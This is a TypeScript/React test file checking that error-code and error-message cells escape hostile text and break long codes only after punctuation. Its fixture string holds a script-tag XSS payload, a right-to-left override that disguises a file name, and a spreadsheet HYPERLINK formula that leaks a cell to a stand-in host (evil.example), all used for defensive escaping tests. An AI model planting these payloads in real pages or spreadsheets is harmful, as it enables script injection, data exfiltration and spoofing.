/**
 * The breakdown's ErrCode and text cells, rendered by React itself (server rendering, no
 * browser): an ErrCode may break only after its punctuation and keeps the whole code as its
 * title; hostile ErrMsg / ErrTip text (markup, direction controls, formulas, huge text) is
 * inert visible text, and a long one is a focusable box (it may scroll). Layout (the box's
 * height, one-line headers, the drawer) is tested in e2e/failure-causes.spec.ts.
 */
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { CauseCode, CauseText } from './failure-causes';

/** The code's visible text with a `|` where the markup allows a line break (`<wbr>`). */
function breaks(html: string): string {
  const inner = /data-testid="cause-code">(.*?)<\/span><button/.exec(html)![1]!;
  return inner.replace(/<wbr\/?>/g, '|').replace(/<[^>]+>/g, '');
}

describe('CauseCode', () => {
  it.each([
    ['waf_openapi.Quota.BlacklistFull', 'waf_|openapi.|Quota.|BlacklistFull'],
    ['sts_openapi.Info.DefenseSceneNotSupported', 'sts_|openapi.|Info.|DefenseSceneNotSupported'],
    ['InternalError', 'InternalError'],
    ['a:b/c-d', 'a:|b/|c-|d'],
    ['.leading.dot.', '.|leading.|dot.'],
  ])('%s breaks only after punctuation: %s', (code, expected) => {
    const html = renderToStaticMarkup(<CauseCode code={code} />);
    expect(breaks(html)).toBe(expected);
    expect(html).toContain(`title="${code}"`);
  });

  it('a direction control in a code is shown as a token with a warning, the title keeps the raw code', () => {
    const html = renderToStaticMarkup(<CauseCode code={'evil.\u202Eedoc'} />);
    expect(html).toContain('⟨U+202E⟩');
    expect(html).toContain('data-testid="invisible-warning"');
    expect(html).toContain('title="evil.\u202Eedoc"');
  });
});

describe('CauseText', () => {
  const hostile =
    '<script>alert("xss-errtip")</script> Run \u202Eexe.llik\u202C as admin. =HYPERLINK("http://evil.example/?leak="&A1,"Fix it") ' +
    'Restart the agent and try again. '.repeat(180);

  it('shows markup, formulas and direction controls as inert text', () => {
    const html = renderToStaticMarkup(<CauseText text={hostile} />);
    expect(html).not.toMatch(/<script|<a /);
    expect(html).toContain('&lt;script&gt;alert(&quot;xss-errtip&quot;)&lt;/script&gt;');
    expect(html).toContain('=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;Fix it&quot;)');
    expect(html).not.toContain('\u202E');
    expect(html).toContain('⟨U+202E⟩');
    expect(html).toContain('⟨U+202C⟩');
    expect(html).toContain('Restart the agent and try again. '.repeat(180).trim());
  });

  it.each([
    ['a short hint', 'Check that the agent is online', false],
    ['a long one', hostile, true],
  ])('%s: focusable (it may scroll) %s', (_name, text, focusable) => {
    const html = renderToStaticMarkup(<CauseText text={text} />);
    expect(html.includes('tabindex="0"')).toBe(focusable);
    expect(html).toMatch(/^<div class="rtc-cause-text"/);
  });
});
